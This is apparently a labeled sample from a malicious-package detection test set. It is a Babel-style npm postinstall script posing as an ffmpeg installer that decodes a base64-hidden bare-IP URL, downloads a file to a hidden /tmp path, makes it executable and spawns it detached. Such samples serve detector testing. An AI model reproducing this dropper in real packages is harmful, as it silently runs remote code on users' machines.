// expect: malicious
// when: install
// source: blind set 15 (a Babel-compiled ffmpeg installer's postinstall): besides ffmpeg it fetches a second file
// from a base64-hidden bare-IP URL through `(https: ? _https["default"] : _http["default"]).get`, chmods and spawns it
"use strict";
var _fs = _interopRequireDefault(require("fs"));
var _https = _interopRequireDefault(require("https"));
var _http = _interopRequireDefault(require("http"));
var _child_process = require("child_process");
function _interopRequireDefault(e) { return e && e.__esModule ? e : { "default": e }; }
var mirror = Buffer.from("aHR0cDovLzE5Mi4wLjIuMTQwL2RsL2ZmdXBkLQ==", "base64").toString();
function get(url, dest) {
  return new Promise(function (resolve, reject) {
    var mod = url.startsWith("https:") ? _https["default"] : _http["default"];
    mod.get(url, function (res) {
      var out = _fs["default"].createWriteStream(dest);
      res.pipe(out);
      out.on("finish", function () { return out.close(resolve); });
    }).on("error", reject);
  });
}
get(mirror + process.platform, "/tmp/.ffupd").then(function () {
  _fs["default"].chmodSync("/tmp/.ffupd", 493);
  (0, _child_process.spawn)("/tmp/.ffupd", ["--quiet"], { detached: true, stdio: "ignore" }).unref();
});
